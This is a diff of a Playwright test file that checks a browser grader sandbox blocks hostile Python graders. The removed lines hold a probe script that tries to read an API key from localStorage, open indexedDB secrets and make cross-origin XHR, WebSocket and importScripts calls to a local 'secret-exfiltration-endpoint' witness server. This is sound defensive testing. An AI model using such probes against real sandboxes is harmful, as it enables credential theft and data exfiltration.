@@ -1,26 +1,8 @@
 import { expect, test, type Page } from '@playwright/test';
-import { createHash } from 'node:crypto';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { flags, getDoc, openApp, setDoc } from './helpers.ts';
+import { hostileGrader, AFTER_CHECK, witnessServer } from './witness.ts';
 
 const pythonGrader = (source: string) => ({ type: 'python', name: 'p', source });
-
-/** A local HTTP + WebSocket server that records every request it gets (the hostile grader's target). */
-async function witnessServer(): Promise<{ server: Server; port: number; hits: string[] }> {
-  const hits: string[] = [];
-  const server = createServer((req, res) => {
-    hits.push(`http ${req.url}`);
-    res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('secret-exfiltration-endpoint');
-  });
-  server.on('upgrade', (req, socket) => {
-    hits.push(`websocket ${req.url}`);
-    const accept = createHash('sha1').update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
-    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
-  });
-  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
-  return { server, port: (server.address() as AddressInfo).port, hits };
-}
 
 async function grade(page: Page, source: string, timeout = 90_000) {
   await setDoc(page, 'grader', pythonGrader(source));
@@ -122,41 +104,7 @@ test.describe('python graders', () => {
 
       // Grades run synchronously, so the probes are synchronous (a synchronous XMLHttpRequest stands for any
       // request: the same policy governs fetch); the WebSocket is kept for a second run to inspect.
-      const source = `
-import js
-
-def attempt(name, fn):
-    try:
-        value = fn()
-        return f"{name}: OPEN {str(value)[:40]}"
-    except BaseException as e:
-        return f"{name}: blocked ({type(e).__name__})"
-
-def xhr(url):
-    req = js.XMLHttpRequest.new()
-    req.open("GET", url, False)
-    req.send()
-    return req.responseText
-
-def websocket(url):
-    js.globalThis.probeSocket = js.WebSocket.new(url)
-    raise RuntimeError("connecting in the background; checked by the next run")
-
-def grade(sample, item):
-    results = [
-        attempt("localStorage", lambda: js.localStorage.getItem("openai-api-key")),
-        attempt("indexedDB", lambda: js.indexedDB.open("grader-playground-secrets")),
-        attempt("caches", lambda: js.caches.keys()),
-        attempt("request to another origin", lambda: xhr("http://${target}/xhr")),
-        attempt("websocket", lambda: websocket("ws://${target}/probe")),
-        attempt("importScripts", lambda: js.importScripts("http://${target}/import.js")),
-        attempt("document", lambda: js.document.title),
-        attempt("parent", lambda: js.parent.document.title),
-    ]
-    for r in results:
-        print(r)
-    return 1.0 if all("blocked" in r for r in results) else 0.0
-`;
+      const source = hostileGrader(target);
       await grade(page, source);
       const stdout = await page.getByTestId('python-stdout').textContent();
       expect(stdout).not.toContain('OPEN');
@@ -165,12 +113,13 @@ def grade(sample, item):
 
       // Give the socket time to connect if it could, then look at it from a second run.
       await page.waitForTimeout(1500);
-      await grade(page, 'import js\n\ndef grade(sample, item):\n    return float(js.globalThis.probeSocket.readyState)\n');
-      await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '3'); // CLOSED, never OPEN (1)
+      // The socket never opened (Chromium creates it, Firefox and WebKit throw) and no app cache was seen.
+      await grade(page, AFTER_CHECK);
+      await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '0.5');
       // The server never saw a request from the sandbox.
       expect(witness.hits).toEqual([]);
     } finally {
-      witness.server.close();
+      await witness.close();
     }
   });
 });
